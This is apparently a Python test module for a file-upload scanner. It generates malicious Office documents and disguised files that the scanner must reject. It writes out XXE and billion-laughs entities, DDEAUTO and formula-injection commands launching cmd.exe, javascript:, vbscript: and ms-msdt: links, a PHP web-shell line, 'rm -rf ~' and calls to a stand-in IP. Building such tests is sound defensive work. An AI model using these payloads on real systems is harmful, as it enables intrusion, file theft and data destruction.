"""Harm in the XML of an office file: declarations, commands, links, sizes; other files renamed."""

import io
import random
from collections.abc import Iterator

import openpyxl
import xlsxwriter
from tests.intake import packages as p
from tests.intake.corpus import Harm, refused
from tests.intake.harmful_zip import MEGABYTE, eicar, with_part

LAUGHS = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9))
DOCTYPES = {
    "billion laughs": f'<!DOCTYPE x [<!ENTITY a0 "ha">{LAUGHS}]><x>&a9;</x>',
    "quadratic": f'<!DOCTYPE x [<!ENTITY a "{"A" * 5_000}">]><x>{"&a;" * 5_000}</x>',
    "file": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "http": '<!DOCTYPE x [<!ENTITY a SYSTEM "http://192.0.2.1/a">]><x>&a;</x>',
    "parameter": '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/a.dtd"> %a;]><x/>',
    "foreign DTD": '<!DOCTYPE x SYSTEM "http://192.0.2.1/a.dtd"><x/>',
    "behind a comment": "<!--" + "x" * 65_530 + '--><!DOCTYPE x [<!ENTITY a "b">]><x/>',
}
PARTS = (
    "xl/workbook.xml",
    "xl/sharedStrings.xml",
    "word/document.xml",
    "_rels/.rels",
    "word/media/a.svg",
    "xl/drawings/vmlDrawing1.vml",
    "[Content_Types].xml",
)
CODINGS = ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "cp037", "cp500")
REMOTES = (
    "https://192.0.2.1/x",
    "http://192.0.2.1/x",
    r"\\192.0.2.1\s\x",
    "file://192.0.2.1/s/x",
    "ftp://192.0.2.1/x",
    "//192.0.2.1/s/x",
    "file:///D:/so-lieu.xlsx",
)
DRAWS = (
    "externalLinkPath",
    "image",
    "subDocument",
    "frame",
    "mailMergeSource",
    "video",
    "oleObject",
    "aFChunk",
    "xlPathMissing",
)
MACROS = (
    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "application/vnd.ms-excel.template.macroEnabled.main+xml",
    "application/vnd.ms-excel.addin.macroEnabled.main+xml",
    "application/vnd.ms-word.document.macroEnabled.main+xml",
    "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 1024


def harms() -> Iterator[Harm]:
    yield from declarations()
    yield from macros()
    yield from commands()
    yield from objects()
    yield from links()
    yield from sizes()
    yield from strangers()


def declarations() -> Iterator[Harm]:
    for part in PARTS:
        for title, text in DOCTYPES.items():
            made = p.pack(p.parts() | {part: text})
            yield refused(f"{title} in {part}", "a.xlsx", made, "dtd")
    plain = '<?xml version="1.0" encoding="{}"?>' + DOCTYPES["file"]
    for coding in CODINGS:
        made = with_part(p.DOCX, "word/document.xml", plain.format(coding).encode(coding))
        yield refused(f"entity in {coding}", "a.docx", made, "dtd")
    utf7 = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>'
    yield refused("entity in utf-7", "a.docx", with_part(p.DOCX, "word/a.xml", utf7), "dtd")
    deep = f'<w:document xmlns:w="{W}">' + "<w:p>" * 50_000 + "</w:p>" * 50_000 + "</w:document>"
    yield refused(
        "50,000 elements in one another",
        "a.docx",
        with_part(p.DOCX, "word/document.xml", deep),
        "damaged",
    )
    broken = f'<w:document xmlns:w="{W}"><w:p>'
    yield refused(
        "XML without an end", "a.docx", with_part(p.DOCX, "word/document.xml", broken), "damaged"
    )


def macros() -> Iterator[Harm]:
    for kind, base in (("xlsx", p.XLSX), ("docx", p.DOCX)):
        for macro in MACROS:
            made = p.pack(p.parts(macro))
            yield refused(f"{macro.split('.', 2)[2]} as {kind}", f"a.{kind}", made, "macro")
        for part in (
            "xl/vbaProject.bin",
            "word/vbaProject.bin",
            "word/vbaData.xml",
            "VBAPROJECT.BIN",
            "xl/activeX/activeX1.xml",
            "xl/activeX/activeX1.bin",
            "xl/macrosheets/sheet1.xml",
        ):
            yield refused(f"{part} in {kind}", f"a.{kind}", with_part(base, part, "<x/>"), "macro")
        renamed = p.parts(
            base, **{"xl/theme/a.dat": b"x", "xl/_rels/w.rels": internal("vbaProject")}
        )
        yield refused(f"{kind} macros under another name", f"a.{kind}", p.pack(renamed), "macro")
        typed = p.parts(base)
        types = str(typed["[Content_Types].xml"])
        typed["[Content_Types].xml"] = types.replace(
            "application/xml", "application/vnd.ms-office.vbaProject"
        )
        yield refused(f"{kind} macros by type alone", f"a.{kind}", p.pack(typed), "macro")


def internal(kind: str) -> str:
    return p.RELS.format(kind=kind, target="theme/a.dat").replace('TargetMode="External" ', "")


def field(*runs: str) -> str:
    cut = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:document xmlns:w="{W}"><w:body><w:p>{cut}</w:p></w:body></w:document>'


SIMPLE = f'<w:p xmlns:w="{W}"><w:fldSimple w:instr="{{}}"/></w:p>'


def commands() -> Iterator[Harm]:
    words = {
        "DDEAUTO": field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '),
        "DDE": field(" DDE excel book "),
        "DDE in runs": field(" DD", "E", " excel book "),
        "DDEAUTO in letters": field("D", "D", "E", "A", "U", "T", "O", " cmd x"),
        "QUOTE": field(" QUOTE 68 68 69 65 85 84 79 32 "),
        "in references": field(" &#68;DEAUTO cmd "),
        "in hexadecimal references": field(" D&#x44;&#x45;AUTO cmd "),
        "behind a comment": field(" DD<!-- -->EAUTO cmd "),
        "in CDATA": field("<![CDATA[ DDEAUTO cmd ]]>"),
        "simple field in references": SIMPLE.format("&#68;DE cmd"),
        "simple field": SIMPLE.format("DDEAUTO cmd"),
        "in utf-16": field(" DDEAUTO cmd ").encode("utf-16"),
    }
    for title, text in words.items():
        for part in ("word/document.xml", "word/header1.xml"):
            made = with_part(p.DOCX, part, text)
            yield refused(f"field {title} in {part}", "a.docx", made, "macro")
    cell = '<worksheet><sheetData><row r="1"><c r="A1"><f>{}</f></c></row></sheetData></worksheet>'
    formulas = (
        "cmd|' /C calc'!A0",
        "MSEXCEL|'\\..\\cmd.exe /c x'!''",
        "IF(1,cmd|'/c x'!A1)",
        "-2+3+cmd|' /C calc'!D2",
        "cmd&#124;' /C x'!A0",
        "cm<!-- -->d|'x'!A0",
        "rundll32|'URL.dll,OpenURL x'!A",
    )
    for formula in formulas:
        made = with_part(p.XLSX, "xl/worksheets/sheet2.xml", cell.format(formula))
        yield refused(f"formula {formula}", "a.xlsx", made, "macro")
    link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    made = with_part(p.XLSX, "xl/externalLinks/externalLink1.xml", link)
    yield refused("ddeLink", "a.xlsx", made, "macro")
    for target in (
        "javascript:alert(1)",
        "vbscript:x",
        "data:text/html,x",
        "ms-msdt:/id",
        "mhtml:x",
    ):
        for kind, base in (("xlsx", p.XLSX), ("docx", p.DOCX)):
            rels = p.RELS.format(kind="hyperlink", target=target)
            made = with_part(base, "xl/_rels/a.rels", rels)
            yield refused(f"{kind} link {target}", f"a.{kind}", made, "macro")
    for script in ("<script>x()</script>", '<g onload="x()"/>', '<a href="javascript:x()"/>'):
        svg = f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>'
        yield refused(
            f"svg part with {script}",
            "a.docx",
            with_part(p.DOCX, "word/media/a.svg", svg),
            "macro",
        )


def objects() -> Iterator[Harm]:
    for kind, base in (("xlsx", p.XLSX), ("docx", p.DOCX)):
        for part in (
            "xl/embeddings/oleObject1.bin",
            "word/embeddings/a.ole",
            "xl/embeddings/a.doc",
            "word/chunk.html",
            "word/chunk.mht",
            "word/chunk.rtf",
            "word/a.docm",
            "xl/a.xlsm",
            "word/a.swf",
            "word/a.htm",
        ):
            yield refused(
                f"{part} in {kind}", f"a.{kind}", with_part(base, part, "x"), "embedded_object"
            )
        yield refused(
            f"OLE as a picture in {kind}",
            f"a.{kind}",
            with_part(base, "xl/media/image1.emf", OLE),
            "embedded_object",
        )
        for link in ("oleObject", "aFChunk"):
            made = p.pack(
                p.parts(base, **{"xl/_rels/a.rels": internal(link), "xl/theme/a.dat": "x"})
            )
            yield refused(
                f"{link} under another name in {kind}", f"a.{kind}", made, "embedded_object"
            )
    inner = p.pack(p.parts(**{"xl/vbaProject.bin": b"x"}))
    made = with_part(p.DOCX, "word/embeddings/Microsoft_Excel_Sheet.xlsx", inner)
    yield refused("macros in the workbook of a chart", "a.docx", made, "macro")


def links() -> Iterator[Harm]:
    for target in REMOTES:
        for kind in DRAWS:
            made = with_part(p.XLSX, "xl/_rels/a.rels", p.RELS.format(kind=kind, target=target))
            yield refused(f"{kind} {target}", "a.xlsx", real_sheet(made), "draws_on")
        made = with_part(
            p.DOCX,
            "word/_rels/settings.xml.rels",
            p.RELS.format(kind="attachedTemplate", target=target),
        )
        if not target.startswith("file:///"):
            yield refused(f"template {target}", "a.docx", made, "remote_template")
    connected = real_sheet(p.pack(p.parts(**{"xl/connections.xml": "<connections/>"})))
    yield refused("data connections", "a.xlsx", connected, "draws_on")
    web = '<worksheet><sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/"&amp;B1)</f></c></row></sheetData></worksheet>'
    made = real_sheet(with_part(p.XLSX, "xl/worksheets/x.xml", web))
    yield refused("WEBSERVICE", "a.xlsx", made, "draws_on")
    text = field(' INCLUDETEXT "http://192.0.2.1/a.docx" ')
    yield refused(
        "INCLUDETEXT", "a.docx", with_part(p.DOCX, "word/document.xml", text), "draws_on"
    )


def real_sheet(extra: bytes) -> bytes:
    """A workbook that opens, with the parts of `extra` that it does not have."""
    import zipfile

    stream = io.BytesIO()
    openpyxl.Workbook().save(stream)
    with zipfile.ZipFile(io.BytesIO(extra)) as more, zipfile.ZipFile(stream, "a") as book:
        for name in set(more.namelist()) - set(book.namelist()):
            book.writestr(name, more.read(name))
    return stream.getvalue()


def rows(count: int, columns: int = 1) -> bytes:
    stream = io.BytesIO()
    with xlsxwriter.Workbook(stream, {"constant_memory": True}) as book:
        sheet = book.add_worksheet()
        for row in range(count):
            sheet.write_row(row, 0, [row] * columns)
    return stream.getvalue()


def corners(*cells: str) -> bytes:
    book = openpyxl.Workbook()
    for cell in cells:
        book.active[cell] = 1
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def repeated_text() -> bytes:
    """270,000 cells that all show one text of 30,000 letters: 8 GB when it is read."""
    text = f'<sst xmlns="{S}"><si><t>' + "x" * 30_000 + "</t></si></sst>"
    row = '<row r="{}">' + '<c t="s"><v>0</v></c>' * 90 + "</row>"
    cells = "".join(row.format(number) for number in range(1, 3_001))
    sheet = f'<worksheet xmlns="{S}"><sheetData>{cells}</sheetData></worksheet>'
    return swap({"xl/worksheets/sheet1.xml": sheet, "xl/sharedStrings.xml": text})


def long_text() -> bytes:
    """Eighteen megabytes of paragraphs that do not pack well."""
    draw = random.Random(7)
    lines = "".join(
        f"<w:p><w:r><w:t>{draw.getrandbits(200):x}</w:t></w:r></w:p>" for _ in range(210_000)
    )
    text = f'<w:document xmlns:w="{W}"><w:body>{lines}</w:body></w:document>'
    return with_part(p.DOCX, "word/document.xml", text)


S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def swap(parts: dict[str, str]) -> bytes:
    import zipfile

    stream, made = io.BytesIO(), io.BytesIO()
    with xlsxwriter.Workbook(stream) as book:
        book.add_worksheet().write(0, 0, "a")
    with zipfile.ZipFile(stream) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name, old.read(name).decode()))
    return made.getvalue()


def sizes() -> Iterator[Harm]:
    yield refused(
        "1,048,576 rows", "a.xlsx", lambda: rows(1_048_576), "too_many_cells", heavy=True
    )
    yield refused(
        "1,048,576 rows by 3",
        "a.xlsx",
        lambda: rows(1_048_576, 3),
        "too_many_cells",
        "too_large",
        "zip_bomb",
        heavy=True,
    )
    for cells in (("A1", "XFD1048576"), ("A1", "XFD200"), ("A1", "D1048576"), ("B2", "ALL3000")):
        yield refused(f"cells only in {cells}", "a.xlsx", corners(*cells), "too_many_cells")
    yield refused(
        "one text in 270,000 cells", "a.xlsx", repeated_text, "too_heavy", heavy=True, apart=True
    )
    yield refused("18 MB of paragraphs", "a.docx", long_text, "too_long", heavy=True)


HEADS = {
    "html": b"<html><script>alert(1)</script></html>",
    "doctype": b"\xef\xbb\xbf\n<!DOCTYPE html><p>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "script": b"<script>x</script>",
    "xml of Word 2003": b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>',
    "mhtml": b"MIME-Version: 1.0\nContent-Type: multipart/related",
}
STRANGERS = {
    "rtf": b"{\\rtf1\\ansi{\\object\\objdata 0105}}",
    "exe": b"MZ\x90\0" + b"\0" * 100,
    "elf": b"\x7fELF\2\1\1",
    "shell": b"#!/bin/sh\nrm -rf ~\n",
    "java": b"\xca\xfe\xba\xbe\0\0\0\x34",
    "php": b"<?php system($_GET[0]); ?>",
    "js": b"fetch('//192.0.2.1')",
    "csv": b"=cmd|'/C calc'!A0,1\n",
    "gif": b"GIF89a/*\0\0*/=1;alert(1)",
    "bmp": b"BM" + b"\0" * 60,
    "tiff": b"II*\0" + b"\0" * 60,
    "webp": b"RIFF\0\0\0\0WEBPVP8 ",
    "ico": b"\0\0\1\0\1\0",
    "lnk": b"L\0\0\0\1\x14\2\0",
    "swf": b"CWS\x0a",
    "ps": b"%!PS-Adobe-3.0\n",
    "mp4": b"\0\0\0\x18ftypmp42",
    "one byte": b"%",
    "eicar": eicar(),
    "wasm": b"\0asm\1\0\0\0",
    "pickle": b"\x80\4\x95",
    "cab": b"MSCF\0\0\0\0",
    "iso": b"\0" * 40_000 + b"\1CD001",
    "tar": b"a.txt" + b"\0" * 252 + b"ustar\00000",
    "html far behind": b" " * 2_000 + b"<html>",
    "utf-16 html": "<html>".encode("utf-16"),
}
ARCHIVES = {
    "rar": b"Rar!\x1a\x07\x01\0",
    "7z": b"7z\xbc\xaf\x27\x1c\0\4",
    "gz": b"\x1f\x8b\x08\0",
    "bz2": b"BZh91AY",
    "xz": b"\xfd7zXZ\0",
}
CLAIMED = ("a.pdf", "a.docx", "a.jpg")


def strangers() -> Iterator[Harm]:
    """Other files under the name of a kind that is accepted."""
    for name in CLAIMED:
        for title, data in HEADS.items():
            yield refused(f"{title} as {name}", name, data, "web_page")
        for title, data in ARCHIVES.items():
            yield refused(f"{title} as {name}", name, data + b"\0" * 99, "archive")
        yield refused(f"0 bytes as {name}", name, b"", "empty")
        yield refused(
            f"old Office as {name}", name, OLE + "Workbook".encode("utf-16-le"), "old_office"
        )
        yield refused(
            f"locked Office as {name}",
            name,
            OLE + "EncryptedPackage".encode("utf-16-le"),
            "password",
        )
    for number, (title, data) in enumerate(STRANGERS.items()):
        name = CLAIMED[number % 3]
        yield refused(f"{title} as {name}", name, data, "not_accepted")
    yield refused("plain zip", "a.docx", p.pack({"a.txt": "a"}), "archive")
    yield refused("odt", "a.docx", p.pack({"mimetype": "application/vnd.oasis"}), "not_office")
    yield refused(
        "pptx",
        "a.docx",
        p.pack(
            p.parts(p.DOCX.replace("wordprocessingml.document", "presentationml.presentation"))
        ),
        "wrong_kind",
    )
    for kind, head in (("pdf", b"%PDF-1.7\n"), ("jpg", b"\xff\xd8\xff"), ("docx", b"PK\3\4")):
        made = head.ljust(20 * MEGABYTE + 1, b"\0")
        yield refused(f"{kind} one byte over", f"a.{kind}", lambda made=made: made, "too_large")
    yield refused("photo of a new telephone", "a.jpg", b"\0\0\0\x18ftypheic\0\0", "heic")
